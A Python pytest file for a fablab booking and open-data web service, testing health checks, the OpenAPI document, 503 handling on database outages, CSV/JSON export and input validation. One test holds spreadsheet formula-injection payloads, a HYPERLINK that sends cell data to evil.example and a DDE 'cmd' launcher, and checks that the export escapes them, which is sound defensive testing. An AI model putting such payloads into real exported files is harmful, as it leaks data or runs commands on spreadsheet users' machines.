"""The shell: health, OpenAPI and its page, problem details, database outage, open data."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest

from kernel.auth.tokens import TOKEN_PREFIX
from kernel.db import Database
from kernel.settings import Settings
from mutualab.app import create_app
from resources.opendata import SCHEMA_FIELDS
from tests.factories import make_place, make_resource
from tests.support.accounts import make_user
from tests.support.net import free_port


async def test_health_reports_the_database(client: httpx.AsyncClient) -> None:
    response = await client.get("/health")
    assert response.status_code == 200
    assert response.json() == {"status": "ok", "database": "postgresql"}


async def test_openapi_document_and_page(client: httpx.AsyncClient) -> None:
    document = (await client.get("/schema/openapi.json")).json()
    assert document["openapi"].startswith("3.1")
    assert "/api/places" in document["paths"]
    assert "/api/opendata/lieux.csv" in document["paths"]
    # Every unsafe operation documents the idempotency key; safe ones do not take it.
    booking = document["paths"]["/api/bookings"]
    keys = [p for p in booking["post"]["parameters"] if p["name"] == "Idempotency-Key"]
    assert keys and keys[0]["in"] == "header" and not keys[0]["required"]
    assert "idempotency_key_reused" in keys[0]["description"]
    assert "idempotency_in_progress" in keys[0]["description"]
    cancel = document["paths"]["/api/bookings/{booking_id}/cancel"]["post"]
    assert any(p["name"] == "Idempotency-Key" for p in cancel["parameters"])
    listing = document["paths"]["/api/places"]["get"]
    assert all(p["name"] != "Idempotency-Key" for p in listing.get("parameters", []))
    problem = document["components"]["schemas"]["Problem"]["properties"]
    assert {"outcome", "idempotency_key"} <= problem.keys()
    page = await client.get("/schema")
    assert page.status_code == 200
    assert "/static/swagger/swagger-ui-bundle.js" in page.text
    asset = await client.get("/static/swagger/swagger-ui-bundle.js")
    assert asset.status_code == 200
    assert "SwaggerUIBundle" in asset.text[:2000]


async def test_unknown_route_and_method_are_problems(client: httpx.AsyncClient) -> None:
    missing = await client.get("/api/unknown")
    assert missing.status_code == 404
    assert missing.headers["content-type"].startswith("application/problem+json")
    wrong = await client.put("/api/places")
    assert wrong.status_code == 405
    assert wrong.json()["code"] == "method_not_allowed"


async def test_malformed_json_is_refused_cleanly(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    response = await client.post(
        "/api/places",
        content=b"{not json",
        headers={**admin_headers, "content-type": "application/json"},
    )
    assert response.status_code in (400, 422)
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "Traceback" not in response.text


async def test_database_down_gives_503_not_500() -> None:
    url = f"postgresql+asyncpg://postgres@127.0.0.1:{free_port()}/nowhere"
    app = create_app(Settings(database_url=url, secret_key="x" * 40))
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as http:
        health = await http.get("/health")
        assert health.status_code == 503
        assert health.json()["code"] == "database_unavailable"
        listing = await http.get("/api/places")
        assert listing.status_code == 503
        assert listing.headers["content-type"].startswith("application/problem+json")
        assert listing.headers["retry-after"] == "5"
        assert "Traceback" not in listing.text


@pytest.mark.parametrize("where", ["closed port", "missing socket"])
async def test_a_plain_booking_and_a_read_answer_503_when_the_database_is_down(
    where: str, tmp_path: Path
) -> None:
    """A plain booking runs on the writers' direct pool (kernel.db.DirectPool), a read on the
    reader engine: a server neither can reach is a 503 on both, whether its port refuses or
    its socket file is missing (a single-box install whose PostgreSQL is stopped)."""
    host = f"127.0.0.1:{free_port()}" if where == "closed port" else ""
    query = f"?host={tmp_path / 'no-server'}" if where == "missing socket" else ""
    url = f"postgresql+asyncpg://postgres@{host}/nowhere{query}"
    app = create_app(Settings(database_url=url, secret_key="x" * 40))
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as http:
        week = await http.get("/api/resources/1/availability?from=2027-03-01&to=2027-03-08")
        booking = await http.post(
            "/api/bookings",
            json={"place_id": 1, "items": [{"resource_id": 1, "quantity": 1}]},
            headers={"Authorization": f"Bearer {TOKEN_PREFIX}{'a' * 43}", "Idempotency-Key": "k"},
        )
    for answer in (week, booking):
        assert answer.status_code == 503, answer.text
        assert answer.json()["code"] == "database_unavailable"
        assert answer.headers["retry-after"] == "5"


async def test_open_data_export(client: httpx.AsyncClient, admin_headers: dict[str, str]) -> None:
    place = await make_place(client, admin_headers, name='Fablab "Le Hangar", Lannion')
    await client.put(
        f"/api/places/{place['id']}/opening-hours",
        json={"spans": [{"weekday": d, "opens": "09:00", "closes": "18:00"} for d in range(5)]},
        headers=admin_headers,
    )
    await make_resource(client, admin_headers, place["id"], kind="machine")
    await make_place(client, admin_headers, slug="no-equipment")  # offers nothing: not exported

    response = await client.get("/api/opendata/lieux.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert tuple(rows[0].keys()) == SCHEMA_FIELDS
    assert len(rows) == 1
    row = rows[0]
    assert row["nom"] == 'Fablab "Le Hangar", Lannion'
    assert row["pivot"] == "73282932000074"
    assert row["commune"] == "Lannion"
    assert row["code_postal"] == "22300"
    assert row["horaires"] == "Mo-Fr 09:00-18:00; PH off"
    assert row["id"].endswith(f"-{place['id']}")
    assert row["date_maj"] == place["updated_at"][:10]

    as_json = (await client.get("/api/opendata/lieux.json")).json()
    assert [p["id"] for p in as_json] == [row["id"]]
    assert as_json[0]["horaires"] == row["horaires"]


async def test_open_data_csv_runs_no_formula_a_manager_typed(
    client: httpx.AsyncClient, admin_headers: dict[str, str], database: Database
) -> None:
    place = await make_place(client, admin_headers)
    await make_resource(client, admin_headers, place["id"], kind="machine")
    manager = await make_user(database, "gerant@lannion.fr", manages=(place["id"],))
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Réserver")'
    changed = await client.patch(
        f"/api/places/{place['id']}",
        json={"name": formula, "description": "@SUM(1+1)*cmd|' /C calc'!A0"},
        headers=manager.headers,
    )
    assert changed.status_code == 200, changed.text
    [row] = list(csv.DictReader(io.StringIO((await client.get("/api/opendata/lieux.csv")).text)))
    assert row["nom"] == "'" + formula
    assert row["presentation_resume"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["longitude"] == "-3.46"  # a number stays a number


async def test_out_of_range_numbers_and_nulls_are_refused(
    client: httpx.AsyncClient, admin_headers: dict[str, str]
) -> None:
    huge = 10**30
    response = await client.get(f"/api/places/{huge}")
    assert response.status_code == 422
    assert response.json()["code"] == "value_out_of_range"
    listing = await client.get(f"/api/resources?place_id={huge}")
    assert listing.status_code == 422
    place = await make_place(client, admin_headers)
    emptied = await client.patch(
        f"/api/places/{place['id']}", json={"name": None}, headers=admin_headers
    )
    assert emptied.status_code == 422
    assert emptied.json()["code"] == "null_not_allowed"
    assert emptied.json()["errors"][0]["field"] == "name"
    cleared = await client.patch(
        f"/api/places/{place['id']}", json={"website": None}, headers=admin_headers
    )
    assert cleared.status_code == 200  # an optional field may be cleared
